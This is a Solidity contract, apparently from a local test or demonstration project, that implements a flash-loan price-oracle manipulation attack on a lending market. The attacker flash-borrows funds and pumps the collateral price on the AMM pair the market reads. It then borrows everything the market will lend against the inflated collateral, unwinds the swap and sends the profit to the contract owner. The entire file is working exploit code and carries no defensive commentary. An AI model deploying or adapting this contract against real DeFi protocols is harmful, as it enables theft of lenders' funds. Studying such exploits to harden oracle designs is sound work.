// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "../core/IERC20.sol";
import {Pair} from "../core/Pair.sol";
import {AmmMath} from "../core/AmmMath.sol";
import {FlashLender, IFlashBorrower} from "../core/FlashLender.sol";
import {LendingMarket} from "../core/LendingMarket.sol";

/// @notice In one transaction: flash-borrow the debt asset, buy a little collateral at the fair price,
/// pump the collateral's price on the pair the market reads, post the cheap collateral, borrow all the
/// market will lend against its inflated value, sell the pumped collateral back, repay the flash loan.
contract PriceManipulator is IFlashBorrower {
    address public immutable owner;
    FlashLender public immutable lender;
    LendingMarket public immutable market;
    Pair public immutable pair;
    IERC20 public immutable debtAsset;
    IERC20 public immutable collateralAsset;

    constructor(FlashLender lender_, LendingMarket market_) {
        owner = msg.sender;
        lender = lender_;
        market = market_;
        pair = market_.pair();
        debtAsset = market_.debtAsset();
        collateralAsset = market_.collateralAsset();
    }

    function attack(uint256 flashAmount, uint256 seedAmount, uint256 pumpAmount) external {
        require(msg.sender == owner, "PriceManipulator: not owner");
        lender.flashLoan(this, address(debtAsset), flashAmount, abi.encode(seedAmount, pumpAmount));
        require(debtAsset.transfer(owner, debtAsset.balanceOf(address(this))), "PriceManipulator: payout failed");
    }

    function onFlashLoan(address initiator, address token, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        require(msg.sender == address(lender) && initiator == address(this), "PriceManipulator: unexpected loan");
        require(token == address(debtAsset), "PriceManipulator: wrong token");
        (uint256 seedAmount, uint256 pumpAmount) = abi.decode(data, (uint256, uint256));

        uint256 cheap = _swap(address(debtAsset), seedAmount);
        uint256 pumped = _swap(address(debtAsset), pumpAmount);

        collateralAsset.approve(address(market), cheap);
        market.depositCollateral(cheap);
        uint256 room = market.borrowLimit(address(this));
        uint256 available = debtAsset.balanceOf(address(market));
        market.borrow(room < available ? room : available);

        _swap(address(collateralAsset), pumped);
        debtAsset.approve(address(lender), amount + fee);
        return lender.CALLBACK_SUCCESS();
    }

    function _swap(address tokenIn, uint256 amountIn) private returns (uint256 out) {
        (uint112 r0, uint112 r1,) = pair.getReserves();
        bool zeroIn = tokenIn == pair.token0();
        out = zeroIn ? AmmMath.amountOut(amountIn, r0, r1) : AmmMath.amountOut(amountIn, r1, r0);
        require(IERC20(tokenIn).transfer(address(pair), amountIn), "PriceManipulator: transfer failed");
        if (zeroIn) pair.swap(0, out, address(this), "");
        else pair.swap(out, 0, address(this), "");
    }
}
